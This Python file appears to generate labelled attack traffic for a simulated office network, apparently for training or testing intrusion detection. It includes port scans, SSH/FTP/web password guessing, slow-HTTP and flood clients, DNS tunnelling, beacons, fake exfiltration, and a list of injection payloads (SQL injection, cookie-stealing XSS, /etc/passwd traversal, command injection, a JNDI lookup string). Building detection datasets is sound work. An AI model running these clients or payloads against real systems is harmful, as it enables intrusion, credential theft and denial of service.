# SPDX-License-Identifier: BSD-3-Clause
"""Abnormal traffic of a host: run inside its namespace, writes down every flow that it begins.

These are plain clients without any exploit: what is abnormal is what they ask for, how often, and of whom. Each kind
has a quick and a slow tempo. One line of truth per flow: when it began, its five-tuple, kind and tempo.
"""

from __future__ import annotations

import argparse
import base64
import csv
import os
import random
import selectors
import socket
import ssl
import subprocess
import sys
import threading
import time
import urllib.parse
from collections.abc import Callable
from pathlib import Path

from clients import AGENTS, SSH
from services import ACCOUNTS, TUNNEL_ZONE, WORDS

COLUMNS = ("time", "protocol", "source", "source_port", "destination", "destination_port", "kind", "tempo")
TCP_LISTENER = 8443
# Debian's client asks for low delay from its first packet on, and so does whoever connects in its place.
TYPE_OF_SERVICE_OF_SSH = 0x10
# An answer is over when nothing has come for so long.
ANSWER_PAUSE_S = 0.3
PASSWORDS = ("123456", "password", "admin", "qwerty", "letmein", "welcome1", "Sommer2026", "office", "changeme")
PORTS = (
    7, 9, 13, 20, 21, 22, 23, 25, 37, 53, 69, 79, 80, 81, 88, 110, 111, 113, 119, 123, 135, 137, 139, 143, 161, 179,
    389, 443, 445, 465, 512, 513, 514, 515, 548, 554, 587, 631, 636, 873, 902, 989, 990, 993, 995, 1080, 1433, 1521,
    1723, 1883, 2049, 2121, 2375, 3000, 3128, 3268, 3306, 3389, 4369, 4444, 5000, 5060, 5432, 5555, 5672, 5900,
    5984, 5985, 6379, 6443, 7001, 8000, 8008, 8080, 8081, 8086, 8443, 8888, 9000, 9090, 9200, 9418, 10000, 11211,
    27017, 50000,
)  # fmt: skip
INJECTIONS = (
    "' OR '1'='1", "1; DROP TABLE orders--", "1 UNION SELECT name, password FROM users--", "admin'--",
    "1' AND SLEEP(5)--", "<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>",
    "../../../../etc/passwd", "..%2f..%2fetc%2fshadow", ";cat /etc/passwd", "$(id)", "`id`", "|| ping -c 10 127.0.0.1",
    "1 AND 1=1", "1 AND 1=2", "' UNION SELECT NULL,NULL,NULL--", "%27%20or%201=1", "{{7*7}}", "${jndi:ldap://x/a}",
    "1 ORDER BY 10--", "' AND extractvalue(1,concat(0x7e,version()))--", "' or ''='", "-1' OR 3*2*1=6 AND 000=000--",
)  # fmt: skip


class Actor:
    """What an abnormal kind has: chance, targets, and a place to write the truth."""

    def __init__(self, kind: str, tempo: str, host: str, truth: str, addresses: dict[str, str], names: str, seed: int):
        self.kind, self.tempo, self.host, self.truth = kind, tempo, host, truth
        self.addresses, self.names = addresses, names.split()
        self.rng = random.Random(f"{seed} {kind} {tempo}")
        self.file = open(truth, "a", newline="")  # noqa: SIM115 # for as long as the program runs
        self.table = csv.writer(self.file)
        self.lock = threading.Lock()

    @property
    def quick(self) -> bool:
        """Whether the tempo is the quick one."""
        return self.tempo == "quick"

    def note(self, began: float, connection: socket.socket, peer: tuple[str, int]) -> None:
        """Write down a flow; the port is known as soon as the connection is asked for."""
        address, port = connection.getsockname()
        protocol = "tcp" if connection.type == socket.SOCK_STREAM else "udp"
        with self.lock:
            self.table.writerow([f"{began:.6f}", protocol, address, port, *peer, self.kind, self.tempo])
            self.file.flush()

    def connect(self, host: str, port: int, type_of_service: int = 0) -> socket.socket | None:
        """Return a connection, None if it is refused; either way it is a flow."""
        connection = socket.socket()
        connection.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, type_of_service)
        # Not bound before: the kernel gives other ports to bind than to connect, odd ones, and they would tell.
        connection.setblocking(False)
        began = time.time()
        connection.connect_ex((self.addresses[host], port))
        self.note(began, connection, (self.addresses[host], port))
        selector = selectors.DefaultSelector()
        selector.register(connection, selectors.EVENT_WRITE)
        answered = selector.select(timeout=5)
        selector.close()
        if not answered or connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            connection.close()
            return None
        connection.settimeout(20)
        return connection

    def ask(self, host: str, port: int, message: bytes, context: ssl.SSLContext | None = None) -> None:
        """Send a message, take the whole answer, hang up: leaving some of it unread would end in a reset."""
        connection = self.connect(host, port)
        if connection is None:
            return
        talking = connection
        try:
            if context:
                talking = context.wrap_socket(connection)
            talking.sendall(message)
            while talking.recv(65536):
                talking.settimeout(ANSWER_PAUSE_S)
        except OSError:  # no more is coming, or hung up on
            pass
        talking.close()

    def agent(self) -> str:
        """Return the browser that this traffic pretends to come from."""
        return self.rng.choice(AGENTS[:2])


def request(actor: Actor, method: str, host: str, path: str, extra: str = "", body: bytes = b"") -> bytes:
    """Return an HTTP request in the order of headers that curl has."""
    head = f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {actor.agent()}\r\nAccept: */*\r\n{extra}"
    return (head + (f"Content-Length: {len(body)}\r\n" if body else "") + "\r\n").encode() + body


def port_scan(actor: Actor) -> None:
    """Connect to a port of a host of the office and hang up."""
    others = sorted(set(actor.addresses) - {actor.host, "outside"})  # what it asks of itself goes over no wire
    host = actor.rng.choice(others)
    connection = actor.connect(host, actor.rng.choice(PORTS))
    if connection is not None:
        connection.close()


def ssh_guessing(actor: Actor) -> None:
    """Try a password with OpenSSH's client; `pass_connection` makes the connection for it, to know its port."""
    name = actor.rng.choice([*ACCOUNTS, "root", "admin", "test", "backup"])
    through = [sys.executable, __file__, "pass", actor.tempo, actor.truth, actor.addresses["files"]]
    options = [*SSH, "-o", "NumberOfPasswordPrompts=1", "-o", f"ProxyCommand={' '.join(through)}"]
    command = ["sshpass", "-p", actor.rng.choice(PASSWORDS), "ssh", *options, "-o", "ProxyUseFdpass=yes"]
    subprocess.run([*command, f"{name}@files", "id"], capture_output=True, timeout=30, check=False)


def pass_connection(actor: Actor) -> None:
    """Connect to the SSH server and hand the connection to the client that is asking for it."""
    connection = actor.connect("files", 22, TYPE_OF_SERVICE_OF_SSH)
    if connection is not None:
        connection.setblocking(True)
        socket.send_fds(socket.socket(fileno=os.dup(1)), [b"\0"], [connection.fileno()])


def ftp_guessing(actor: Actor) -> None:
    """Try one to three passwords over a connection."""
    connection = actor.connect("files", 21)
    if connection is None:
        return
    try:
        connection.recv(1000)
        for _ in range(actor.rng.choice([1, 1, 3])):
            connection.sendall(f"USER {actor.rng.choice([*ACCOUNTS, 'admin', 'ftp'])}\r\n".encode())
            connection.recv(1000)
            connection.sendall(f"PASS {actor.rng.choice(PASSWORDS)}\r\n".encode())
            connection.recv(1000)
    except OSError:  # the server has had enough
        pass
    connection.close()


def web_guessing(actor: Actor) -> None:
    """Try a password in the login form."""
    form = {"user": actor.rng.choice([*ACCOUNTS, "admin"]), "password": actor.rng.choice(PASSWORDS)}
    body = urllib.parse.urlencode(form).encode()
    kind = "Content-Type: application/x-www-form-urlencoded\r\n"
    actor.ask("intranet", 80, request(actor, "POST", "intranet.office.example", "/login", kind, body))


def slow_http(actor: Actor) -> None:
    """Hold a connection with a request that never ends."""
    connection = actor.connect("intranet", 80)
    if connection is None:
        return
    path = f"/f{actor.rng.randrange(40)}.html"
    try:
        connection.sendall(request(actor, "GET", "intranet.office.example", path)[:-2])
        for _ in range(10):
            time.sleep(actor.rng.uniform(1, 2) if actor.quick else actor.rng.uniform(3, 6))
            connection.sendall(f"X-{actor.rng.choice(WORDS)}: {actor.rng.randrange(10_000)}\r\n".encode())
    except OSError:  # the server gave up first
        pass
    connection.close()


def http_flood(actor: Actor) -> None:
    """Ask for a page that no cache has."""
    path = f"/f{actor.rng.randrange(40)}.html?{actor.rng.randbytes(4).hex()}={actor.rng.randrange(10**6)}"
    actor.ask("intranet", 80, request(actor, "GET", "intranet.office.example", path))


def dns_tunnel(actor: Actor) -> None:
    """Carry bytes in the labels of a name that the resolver is asked for."""
    n_bytes = actor.rng.randrange(60, 110) if actor.quick else actor.rng.randrange(10, 25)
    text = base64.b32encode(actor.rng.randbytes(n_bytes)).decode().rstrip("=").lower()
    labels = [text[first : first + 60] for first in range(0, len(text), 60)] + TUNNEL_ZONE.split(".")
    question = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
    header = actor.rng.randrange(65536).to_bytes(2, "big") + bytes.fromhex("01000001000000000000")
    with socket.socket(type=socket.SOCK_DGRAM) as connection:
        connection.settimeout(5)
        peer = (actor.addresses["mail"], 53)
        connection.connect(peer)
        actor.note(time.time(), connection, peer)
        connection.send(header + question + bytes.fromhex("00100001"))
        connection.recv(4096)


def check_in(actor: Actor) -> bytes:
    """Return a beacon over HTTP: who I am in a cookie, please tell me what to do."""
    name = actor.names[len(actor.kind) * 7 % len(actor.names)]  # each kind has its own
    identity = base64.b64encode(actor.rng.randbytes(24)).decode()
    return request(actor, "GET", name, f"/api/{actor.rng.choice(WORDS)}/next", f"Cookie: session={identity}\r\n")


def beacon_http(actor: Actor) -> None:
    """Check in over plain HTTP."""
    actor.ask("outside", 80, check_in(actor))


def beacon_tls(actor: Actor) -> None:
    """Check in over TLS, to a certificate that nobody checks."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    actor.ask("outside", 443, check_in(actor), context)


def beacon_tcp(actor: Actor) -> None:
    """Check in with a few bytes of a protocol of its own."""
    body = actor.rng.randbytes(actor.rng.randrange(24, 90))
    actor.ask("outside", TCP_LISTENER, len(body).to_bytes(4, "little") + body)


def exfiltration(actor: Actor) -> None:
    """Upload what looks like an archive to a server that people upload to, too."""
    n_bytes = actor.rng.randrange(80_000, 500_000) if actor.quick else actor.rng.randrange(2_000, 20_000)
    name = actor.rng.choice(actor.names)
    path = f"/upload/{actor.rng.choice(WORDS)}"
    actor.ask("outside", 80, request(actor, "PUT", name, path, body=b"PK\x03\x04" + actor.rng.randbytes(n_bytes)))


def injection(actor: Actor) -> None:
    """Put something into a search that the server might take for a command."""
    text = urllib.parse.quote_plus(actor.rng.choice(INJECTIONS), safe="")
    if actor.rng.random() < 0.5:
        actor.ask("outside", 80, request(actor, "GET", actor.rng.choice(actor.names), f"/search?q={text}"))
    else:
        path = f"/f{actor.rng.randrange(40)}.html?id={text}"
        actor.ask("intranet", 80, request(actor, "GET", "intranet.office.example", path))


def listen(address: str) -> None:
    """Answer beacons over raw TCP, forever."""
    with socket.create_server((address, TCP_LISTENER), backlog=50) as server:
        while True:
            connection, _ = server.accept()
            connection.settimeout(5)
            try:
                connection.recv(1000)
                connection.sendall((36).to_bytes(4, "little") + os.urandom(36))
            except OSError:  # a scan that hung up
                pass
            connection.close()


KINDS: dict[str, Callable[[Actor], None]] = {
    function.__name__: function
    for function in (
        port_scan, ssh_guessing, ftp_guessing, web_guessing, slow_http, http_flood, dns_tunnel, beacon_http, beacon_tls,
        beacon_tcp, exfiltration, injection,
    )
}  # fmt: skip
# Mean seconds from one flow to the next. Beacons keep their time within 30 %, all others are as random as chance.
SLOW_PAUSE_S = 3.0
QUICK_PAUSE_S = {
    "port_scan": 0.03, "http_flood": 0.01, "slow_http": 0.05, "beacon_http": 1.0, "beacon_tls": 1.0, "beacon_tcp": 1.0,
}  # fmt: skip


def perform(actor: Actor, n_flows: int, pause: float) -> None:
    """Begin so many flows, each on its own: a server that lets one of them wait does not change the pace."""
    running = []
    for _ in range(n_flows):
        thread = threading.Thread(target=KINDS[actor.kind], args=(actor,))
        thread.start()
        running.append(thread)
        beacon = actor.kind.startswith("beacon")
        time.sleep(pause * actor.rng.uniform(0.7, 1.3) if beacon else actor.rng.expovariate(1 / pause))
    for thread in running:
        thread.join()


def main() -> None:
    """Act as one kind, in one tempo."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("tempo", choices=("quick", "slow"))
    parser.add_argument("host", help="name of the host that this runs on")
    parser.add_argument("--truth", required=True, help="table to append to")
    parser.add_argument("--names", required=True, help="file with names of the outside world")
    parser.add_argument("--seed", type=int, required=True)
    parser.add_argument("--n", type=int, required=True, help="flows to begin")
    parser.add_argument("--address", action="append", default=[], metavar="HOST=ADDRESS")
    options = parser.parse_args()
    pause = QUICK_PAUSE_S.get(options.kind, 0.15) if options.tempo == "quick" else SLOW_PAUSE_S
    addresses = dict(pair.split("=") for pair in options.address)
    names = Path(options.names).read_text()
    actor = Actor(options.kind, options.tempo, options.host, options.truth, addresses, names, options.seed)
    perform(actor, options.n, pause)


if __name__ == "__main__":
    if sys.argv[1] == "listen":
        listen(sys.argv[2])
    elif sys.argv[1] == "pass":
        pass_connection(Actor("ssh_guessing", sys.argv[2], "", sys.argv[3], {"files": sys.argv[4]}, "", 0))
    else:
        main()
